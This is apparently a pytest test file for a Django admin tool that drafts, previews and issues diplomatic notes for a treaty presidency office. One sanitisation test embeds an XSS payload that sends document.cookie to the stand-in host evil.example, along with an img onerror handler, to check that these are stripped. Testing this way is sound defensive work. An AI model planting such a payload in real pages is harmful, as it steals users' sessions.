"""The presidency office's pages in the admin: the note form's template and placeholders, the preview,
the confirmation before issue, template ownership, the header and the office's first page."""

import datetime as dt
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from common.roles import roles_sync
from correspondence.models import AddresseeGroup, Form, Note, NoteTemplate, ReferenceCounter
from tests.factories import DocumentFactory, MeetingFactory, OfficerFactory, StateFactory

from . import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def presidency(db):
    """The Iraq mission, presiding, with a member in the Presidency office group (the demo's role)."""
    roles_sync()
    iraq = StateFactory(name_en="Iraq")  # not a party here: its own notes do not come back to it
    office = factories.OfficeFactory(
        name="Permanent Mission of Iraq to the United Nations Office at Geneva",
        short_name="Permanent Mission of Iraq",
        kind="presidency",
        state=iraq,
        email="mission.irq.geneva@example.org",
        reference_pattern="Iraq/{yyyy}/{seq:03}",
    )
    return office


@pytest.fixture
def officer(client, presidency):
    user = factories.presidency_user(presidency)
    client.force_login(user)
    return user


@pytest.fixture
def shared(db):
    return NoteTemplate.objects.create(
        name="Invitation to a meeting",
        form=Form.NOTE_VERBALE,
        subject="Invitation to the {{ meeting.title }}",
        body="{{ opening }} invite it to the {{ meeting.title }}, to be held {{ meeting.when }}.\n\n{{ closing }}",
    )


@pytest.fixture
def one_day(db):
    return MeetingFactory(
        title="Coordination Committee meeting",
        start_date=dt.date(2026, 12, 23),
        end_date=dt.date(2026, 12, 23),
        start_time=dt.time(10, 0),
    )


def page(client, url, **params) -> str:
    response = client.get(url, params)
    assert response.status_code == 200, response.status_code
    return response.content.decode()


# --- the note form ---------------------------------------------------------------------------------------------------


def test_a_template_s_wording_for_the_note_form(client, officer, shared):
    response = client.get(reverse("admin:correspondence_notetemplate_wording", args=[shared.pk]))

    assert response.status_code == 200
    assert json.loads(response.content) == {
        "name": "Invitation to a meeting",
        "form": "note_verbale",
        "language": "en",
        "subject": "Invitation to the {{ meeting.title }}",
        "body": shared.body,
    }


def test_another_office_s_template_is_not_handed_out(client, officer):
    theirs = NoteTemplate.objects.create(
        name="Private", form=Form.NOTE_VERBALE, subject="S", body="B", office=factories.OfficeFactory()
    )

    assert client.get(reverse("admin:correspondence_notetemplate_wording", args=[theirs.pk])).status_code == 404


def test_the_wording_endpoint_is_for_staff_only(client, shared):
    client.force_login(factories.UserFactory())

    response = client.get(reverse("admin:correspondence_notetemplate_wording", args=[shared.pk]))

    assert response.status_code == 302 and "/login/" in response["Location"]


def test_the_note_form_loads_its_script_and_offers_usable_templates(client, officer, presidency, shared):
    mine = NoteTemplate.objects.create(name="Ours", form=Form.LETTER, subject="S", body="B", office=presidency)
    NoteTemplate.objects.create(
        name="Theirs", form=Form.LETTER, subject="S", body="B", office=factories.OfficeFactory()
    )

    html = page(client, reverse("admin:correspondence_note_add"))

    assert "correspondence/note_form.js" in html
    assert 'data-template-url="/admin/correspondence/notetemplate/0/wording.json"' in html
    assert f'<option value="{shared.pk}">Invitation to a meeting · English · shared</option>' in html
    assert f'<option value="{mine.pk}">Ours · English · Permanent Mission of Iraq</option>' in html
    assert "Theirs" not in html
    assert f'<option value="{presidency.pk}" selected>' in html  # the officer's only office


def test_the_meeting_picker_shows_treaty_code_dates_newest_first(client, officer):
    MeetingFactory(title="Older", start_date=dt.date(2011, 6, 27), end_date=dt.date(2011, 6, 30))
    MeetingFactory(
        title="Eleventh Meeting of States Parties",
        kind="msp",
        number=11,
        start_date=dt.date(2023, 9, 11),
        end_date=dt.date(2023, 9, 14),
    )

    html = page(client, reverse("admin:correspondence_note_add"))

    labels = re.findall(r'<option value="\d+">(CCM · [^<]+)</option>', html)
    assert labels == [
        "CCM · 11MSP · 11–14 Sep 2023 · Eleventh Meeting of States Parties",
        "CCM · 27–30 Jun 2011 · Older",
    ]


def test_placeholders_with_their_values_for_the_chosen_meeting(client, officer, presidency, one_day):
    html = page(
        client,
        reverse("admin:correspondence_note_placeholders"),
        office=presidency.pk,
        meeting=one_day.pk,
        language="en",
        form="note_verbale",
    )

    assert "<code>{{ meeting.when }}</code></dt><dd>on 23 December 2026 at 10:00</dd>" in html
    assert "<code>{{ meeting.title }}</code></dt><dd>Coordination Committee meeting</dd>" in html
    assert "The Permanent Mission of Iraq to the United Nations Office at Geneva presents its compliments" in html


def test_placeholders_in_french_and_for_an_office_the_user_does_not_draft_for(client, officer, one_day):
    other = factories.OfficeFactory(name="Somebody else's office")

    html = page(
        client,
        reverse("admin:correspondence_note_placeholders"),
        office=other.pk,
        meeting=one_day.pk,
        language="fr",
    )

    assert "le 23 décembre 2026 à 10 heures" in html
    assert "Somebody else" not in html


def test_placeholders_refuse_an_unknown_language(client, officer):
    response = client.get(reverse("admin:correspondence_note_placeholders"), {"language": "xx"})

    assert response.status_code == 400


def test_saving_a_draft_from_the_form_takes_the_treaty_from_the_meeting(client, officer, presidency, shared, one_day):
    response = client.post(
        reverse("admin:correspondence_note_add"),
        {
            "office": presidency.pk,
            "meeting": one_day.pk,
            "template": shared.pk,
            "treaty": "",
            "form": "",
            "language": "",
            "subject": shared.subject,
            "salutation": "",
            "body": shared.body,
            "addressee_groups": ["states_parties"],
            "signatories-TOTAL_FORMS": "0",
            "signatories-INITIAL_FORMS": "0",
            "individuals-TOTAL_FORMS": "0",
            "individuals-INITIAL_FORMS": "0",
            "_continue": "1",
        },
    )

    assert response.status_code == 302, response.context["adminform"].form.errors
    note = Note.objects.get()
    assert (note.treaty, note.form, note.language, note.created_by) == (one_day.treaty, "note_verbale", "en", officer)
    assert note.subject_text == "Invitation to the Coordination Committee meeting"


# --- titles and lists show the subject as it reads -------------------------------------------------------------------


def test_lists_titles_and_breadcrumbs_show_the_rendered_subject(client, officer, presidency, meeting, parties, issue):
    note = issue(factories.draft(presidency, officer, meeting=meeting), officer)
    draft = factories.draft(presidency, officer, meeting=meeting, groups=[AddresseeGroup.SIGNATORIES])

    notes = page(client, reverse("admin:correspondence_note_changelist"))
    copies = page(client, reverse("admin:correspondence_notecopy_changelist"))
    issued_page = page(client, reverse("admin:correspondence_note_change", args=[note.pk]))
    draft_page = page(client, reverse("admin:correspondence_note_change", args=[draft.pk]))

    for html in (notes, copies, issued_page, draft_page):
        assert "Invitation to the Eleventh Meeting of States Parties" in html
    for html in (notes, copies):
        assert "{{" not in html
    assert f"<title>{note.reference} – Invitation to the Eleventh Meeting of States Parties" in issued_page
    assert "States Parties" in notes and "Signatories" in notes and "states_parties" not in notes
    assert "[&quot;states_parties&quot;]" not in issued_page and "States Parties" in issued_page


def test_the_subject_searches_as_it_reads(client, officer, presidency, meeting):
    note = factories.draft(presidency, officer, meeting=meeting)

    response = client.get(reverse("admin:correspondence_note_changelist"), {"q": "Eleventh Meeting"})

    assert [n.pk for n in response.context["cl"].result_list] == [note.pk]


# --- the preview -----------------------------------------------------------------------------------------------------


def test_the_preview_uses_the_pdf_stylesheet_on_an_a4_sheet(client, officer, presidency, meeting, parties):
    note = factories.draft(presidency, officer, meeting=meeting)

    html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]))

    assert '<link rel="stylesheet" href="/static/correspondence/note.css">' in html
    assert '<link rel="stylesheet" href="/static/correspondence/preview.css">' in html
    assert '<main class="sheet"' in html and 'class="note form-note_verbale"' in html
    assert "<script>" not in html and "style=" not in html


def test_the_preview_picks_any_addressee_with_their_delivery(client, officer, presidency, meeting, parties):
    niue_state, _ = factories.party(name="Niue", emails="")
    note = factories.draft(presidency, officer, meeting=meeting)
    url = reverse("admin:correspondence_note_preview", args=[note.pk])

    first = page(client, url)
    niue = page(client, url, to=f"state:{niue_state.iso3}")
    partyland = page(client, url, to=f"state:{parties[0][0].iso3}")

    assert first.count("<option ") == 4
    assert "Permanent Mission of Niue at Geneva · by hand</option>" in first
    assert "4 copies, 1 to deliver by hand." in first
    assert "presents its compliments to the Permanent Mission of Niue at Geneva" in niue
    assert "<strong>deliver by hand</strong>" in niue
    assert "presents its compliments to the Permanent Mission of Partyland 0 at Geneva" in partyland
    assert f"by e-mail to {parties[0][1].email_list[0]}" in partyland


def test_an_unknown_addressee_in_the_preview_is_said_so(client, officer, presidency, meeting, parties):
    note = factories.draft(presidency, officer, meeting=meeting)

    html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]), to="state:XXX")

    assert "is not an addressee of this note: showing the first one." in html


def test_markup_typed_in_a_body_never_reaches_the_preview(client, officer, presidency, meeting, parties):
    """Rich text is cleaned to its few tags: a script goes with its content, an image and its handler go."""
    body = 'Kept <script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
    note = factories.draft(presidency, officer, meeting=meeting, body=body + "\n\n{{ closing }}")

    html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]))

    assert "<p>Kept </p>" in html
    assert "evil.example" not in html and "<img src=x" not in html and "onerror" not in html


def test_the_preview_of_an_issued_note_lists_its_copies(client, officer, presidency, meeting, parties, issue):
    note = issue(factories.draft(presidency, officer, meeting=meeting), officer, dispatch=False)

    html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]), to=f"state:{parties[2][0].iso3}")

    assert html.count("<option ") == 3
    assert "presents its compliments to the Permanent Mission of Partyland 2 at Geneva" in html
    assert note.reference in html


def test_the_preview_pdf_of_another_addressee(client, officer, presidency, meeting, parties):
    note = factories.draft(presidency, officer, meeting=meeting)

    response = client.get(
        reverse("admin:correspondence_note_preview_pdf", args=[note.pk]), {"to": f"state:{parties[1][0].iso3}"}
    )

    assert "to the Permanent Mission of Partyland 1 at Geneva" in factories.pdf_text(response.content)


def test_the_preview_query_count_does_not_grow_with_the_addressees(client, officer, presidency, meeting):
    note = factories.draft(presidency, officer, meeting=meeting)
    url = reverse("admin:correspondence_note_preview", args=[note.pk])
    factories.party(name="Only one")

    def count() -> int:
        client.get(url)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries)

    one = count()
    for n in range(15):
        factories.party(name=f"Another {n}")
    assert count() == one


# --- the confirmation before issue -----------------------------------------------------------------------------------


@pytest.fixture
def invitation(presidency, officer, meeting, parties):
    factories.party(name="Niue", emails="")
    ReferenceCounter.objects.create(office=presidency, year=timezone.localdate().year, last_seq=1)
    note = factories.draft(presidency, officer, meeting=meeting)
    note.enclosures.add(DocumentFactory(meeting=meeting, symbol="CCM/MSP/2023/1", title="Provisional agenda"))
    return note


def test_the_note_page_leads_to_the_confirmation(client, officer, invitation):
    html = page(client, reverse("admin:correspondence_note_change", args=[invitation.pk]))

    issue_url = reverse("admin:correspondence_note_issue", args=[invitation.pk])
    assert f'<a class="button default" href="{issue_url}">Issue and dispatch…</a>' in html


def test_the_confirmation_says_what_will_happen(client, officer, invitation):
    html = page(client, reverse("admin:correspondence_note_issue", args=[invitation.pk]))
    year = timezone.localdate().year

    assert "Nothing has been sent yet." in html
    assert f'<strong class="issue-reference">Iraq/{year}/002</strong>' in html
    assert "<strong>4</strong> copies: <strong>3</strong> by e-mail, <strong>1</strong> to deliver by hand" in html
    assert "<li>Permanent Mission of Niue at Geneva</li>" in html
    assert f'<dd class="issue-date">{timezone.localdate():%-d %B %Y}</dd>' in html
    assert "the enclosures as separate PDF attachments" in html and "CCM/MSP/2023/1 – Provisional agenda" in html
    assert "replies go to mission.irq.geneva@example.org" in html
    assert "Permanent Mission of Iraq to the United Nations Office at Geneva &lt;no-reply@" in html
    assert 'value="Confirm: issue and send 4 copies"' in html
    invitation.refresh_from_db()
    assert invitation.status == Note.Status.DRAFT


def test_appended_enclosures_are_said_so(client, officer, invitation):
    Note.objects.filter(pk=invitation.pk).update(append_enclosures=True)

    html = page(client, reverse("admin:correspondence_note_issue", args=[invitation.pk]))

    assert "with the enclosures appended to it" in html


def test_confirming_issues_and_sends(client, officer, invitation, django_capture_on_commit_callbacks):
    url = reverse("admin:correspondence_note_issue", args=[invitation.pk])
    confirmed = client.get(url).context["form"]["confirmed"].value()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"confirmed": confirmed}, follow=True)

    invitation.refresh_from_db()
    assert invitation.reference == f"Iraq/{timezone.localdate().year}/002"
    assert f"Issued as {invitation.reference}. Its copies are being rendered and sent." in response.content.decode()
    assert sorted(invitation.copies.values_list("status", flat=True)) == ["by_hand", "sent", "sent", "sent"]


def test_nothing_is_sent_without_the_confirmation(client, officer, invitation):
    url = reverse("admin:correspondence_note_issue", args=[invitation.pk])

    response = client.post(url, follow=True)

    assert "Nothing was sent: confirm from the confirmation page." in response.content.decode()
    invitation.refresh_from_db()
    assert invitation.status == Note.Status.DRAFT and not invitation.copies.exists()


def test_a_stale_confirmation_is_refused_and_shown_again(client, officer, invitation):
    url = reverse("admin:correspondence_note_issue", args=[invitation.pk])
    confirmed = client.get(url).context["form"]["confirmed"].value()
    factories.party(name="Newcomer")

    response = client.post(url, {"confirmed": confirmed}, follow=True)

    html = response.content.decode()
    assert "The copies changed since you confirmed them (now 5): nothing was sent." in html
    assert "<strong>5</strong> copies" in html  # the confirmation again, up to date
    assert not ReferenceCounter.objects.filter(last_seq__gt=1).exists()


def test_a_refusal_is_a_clear_message_and_no_button(client, officer, presidency, meeting):
    note = factories.draft(presidency, officer, meeting=meeting, groups=[])

    html = page(client, reverse("admin:correspondence_note_issue", args=[note.pk]))

    assert "This note cannot be issued: The note has no addressees: choose groups or name individuals." in html
    assert 'name="confirmed"' not in html


def test_another_office_s_note_has_no_confirmation_page(client, officer, meeting):
    theirs = factories.draft(factories.OfficeFactory(), factories.secretariat_user(), meeting=meeting)

    assert client.get(reverse("admin:correspondence_note_issue", args=[theirs.pk])).status_code == 404


# --- template ownership in the admin ---------------------------------------------------------------------------------


def test_an_office_reads_shared_templates_and_copies_them(client, officer, presidency, shared):
    url = reverse("admin:correspondence_notetemplate_change", args=[shared.pk])

    html = page(client, url)
    refused = client.post(
        url, {"name_en": "Hijacked", "form": "note_verbale", "language": "en", "subject": "S", "body": "B"}
    )

    assert "View note template" in html and "Copy for my office" in html
    assert "the secretariat manages it" in html
    assert refused.status_code == 403
    shared.refresh_from_db()
    assert shared.name == "Invitation to a meeting"

    response = client.post(reverse("admin:correspondence_notetemplate_copy", args=[shared.pk]), follow=True)
    copy = NoteTemplate.objects.get(office=presidency)
    assert response.redirect_chain[-1][0] == reverse("admin:correspondence_notetemplate_change", args=[copy.pk])
    html = response.content.decode()
    assert "is now Permanent Mission of Iraq&#x27;s own" in html
    assert "Change note template" in html
    assert "This wording belongs to <strong>Permanent Mission of Iraq</strong>" in html
    assert "Copy for my office" not in html


def test_an_office_changes_its_own_template(client, officer, presidency):
    own = NoteTemplate.objects.create(name="Ours", form=Form.NOTE_VERBALE, subject="S", body="B", office=presidency)

    response = client.post(
        reverse("admin:correspondence_notetemplate_change", args=[own.pk]),
        {
            "name_en": "Ours",
            "form": "note_verbale",
            "language": "en",
            "subject": "S",
            "body": "{{ opening }}",
            "office": presidency.pk,
        },
    )

    assert response.status_code == 302
    own.refresh_from_db()
    assert own.body == "{{ opening }}"


def test_an_office_cannot_make_a_template_shared(client, officer, presidency):
    response = client.post(
        reverse("admin:correspondence_notetemplate_add"),
        {"name_en": "Sneaky", "form": "note_verbale", "language": "en", "subject": "S", "body": "B", "office": ""},
    )

    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    assert not NoteTemplate.objects.filter(name="Sneaky").exists()


def test_other_offices_templates_are_not_listed(client, officer, shared):
    NoteTemplate.objects.create(
        name="Theirs", form=Form.LETTER, subject="S", body="B", office=factories.OfficeFactory()
    )

    html = page(client, reverse("admin:correspondence_notetemplate_changelist"))

    assert "Invitation to a meeting" in html and "Shared (every office)" in html
    assert "Theirs" not in html


def test_the_secretariat_changes_shared_templates_and_only_reads_an_office_s(client, presidency, shared):
    roles_sync()
    own = NoteTemplate.objects.create(name="Ours", form=Form.NOTE_VERBALE, subject="S", body="B", office=presidency)
    client.force_login(factories.secretariat_user())

    assert "Change note template" in page(client, reverse("admin:correspondence_notetemplate_change", args=[shared.pk]))
    assert "View note template" in page(client, reverse("admin:correspondence_notetemplate_change", args=[own.pk]))


# --- the header and the office's first page --------------------------------------------------------------------------


def test_the_header_names_the_presidency_office(client, officer):
    html = page(client, reverse("admin:index"))

    assert '<span class="portal-role">Presidency office · Permanent Mission of Iraq</span>' in html
    assert "Secretariat" not in html.split('id="header"')[1].split("</header>")[0]


def test_the_header_names_the_secretariat_and_its_office(client):
    roles_sync()
    user = factories.secretariat_user()
    factories.OfficeFactory(name="Office for Disarmament Affairs", short_name="UNODA").members.add(user)
    client.force_login(user)

    assert '<span class="portal-role">Secretariat · UNODA</span>' in page(client, reverse("admin:index"))


def test_the_office_s_first_page(client, officer, presidency, meeting, parties, issue, failing_mail):
    import smtplib

    draft = factories.draft(presidency, officer, meeting=meeting, subject="Draft about {{ meeting.title }}")
    failing_mail.errors = [smtplib.SMTPRecipientsRefused({"x@example.org": (550, b"5.1.1 User unknown")})]
    issued = issue(factories.draft(presidency, officer, meeting=meeting), officer)
    upcoming = MeetingFactory(
        title="Coordination Committee meeting", start_date=timezone.localdate() + dt.timedelta(days=20)
    )
    OfficerFactory(meeting=meeting, state=presidency.state)

    html = page(client, reverse("admin:index"))

    assert 'id="presidency-home"' in html
    assert (
        f'href="/admin/correspondence/note/{draft.pk}/change/">Draft about Eleventh Meeting of States Parties</a>'
        in html
    )
    assert '<tr class="has-failures">' in html and issued.reference in html
    assert f"?meeting={upcoming.pk}" in html and "Coordination Committee meeting" in html
    assert "Presided by your State" in html


def test_the_office_s_first_page_runs_the_same_queries_for_1_and_many_notes(
    client, officer, presidency, meeting, parties, issue
):
    def count() -> int:
        client.get(reverse("admin:index"))
        with CaptureQueriesContext(connection) as queries:
            assert client.get(reverse("admin:index")).status_code == 200
        return len(queries)

    issue(factories.draft(presidency, officer, meeting=meeting), officer, dispatch=False)
    factories.draft(presidency, officer, meeting=meeting)
    MeetingFactory(start_date=timezone.localdate())
    one = count()
    for n in range(12):
        note = factories.draft(presidency, officer, meeting=MeetingFactory(start_date=timezone.localdate()))
        if n % 2:
            issue(note, officer, dispatch=False)
    assert count() == one


def _queries(client, url) -> int:
    client.get(url)
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_the_confirmation_runs_the_same_queries_for_1_and_many_addressees(client, officer, presidency, meeting):
    factories.party(name="Only one")
    note = factories.draft(presidency, officer, meeting=meeting)
    url = reverse("admin:correspondence_note_issue", args=[note.pk])

    one = _queries(client, url)
    for n in range(15):
        factories.party(name=f"Another {n}", emails="" if n % 3 else None)
    assert _queries(client, url) == one


def test_an_issued_note_s_page_runs_the_same_queries_for_1_and_many_copies(client, officer, presidency, meeting, issue):
    factories.party(name="Only one")
    small = issue(factories.draft(presidency, officer, meeting=meeting), officer)
    for n in range(15):
        factories.party(name=f"Another {n}")
    large = issue(factories.draft(presidency, officer, meeting=meeting), officer)

    one = _queries(client, reverse("admin:correspondence_note_change", args=[small.pk]))
    assert _queries(client, reverse("admin:correspondence_note_change", args=[large.pk])) == one


def test_the_placeholders_run_the_same_queries_whatever_the_data(client, officer, presidency, one_day):
    url = reverse("admin:correspondence_note_placeholders") + f"?office={presidency.pk}&meeting={one_day.pk}"

    one = _queries(client, url)
    for n in range(10):
        factories.party(name=f"Another {n}")
        MeetingFactory()
    assert _queries(client, url) == one


@pytest.mark.django_db(transaction=True)  # the hand-over runs when the issue commits, as in production
def test_with_the_queue_down_issuing_succeeds_and_the_sweep_sends_later(client, officer, invitation, monkeypatch):
    """Redis down: the note and its copies are committed, so the page says so instead of answering 500."""
    from kombu.exceptions import OperationalError

    from correspondence import tasks
    from correspondence.tasks import task_dispatch_copies

    def broker_down(*args, **kwargs):
        raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    url = reverse("admin:correspondence_note_issue", args=[invitation.pk])
    confirmed = client.get(url).context["form"]["confirmed"].value()
    with monkeypatch.context() as patched:
        patched.setattr(task_dispatch_copies, "delay", broker_down)
        response = client.post(url, {"confirmed": confirmed}, follow=True)

    assert response.status_code == 200
    invitation.refresh_from_db()
    html = response.content.decode()
    assert f"Issued as {invitation.reference}. Sending will start when the queue is back" in html
    assert sorted(invitation.copies.values_list("status", flat=True)) == ["queued"] * 4

    tasks.outbox_dispatch()  # beat's sweep, once the queue is back

    assert sorted(invitation.copies.values_list("status", flat=True)) == ["by_hand", "sent", "sent", "sent"]
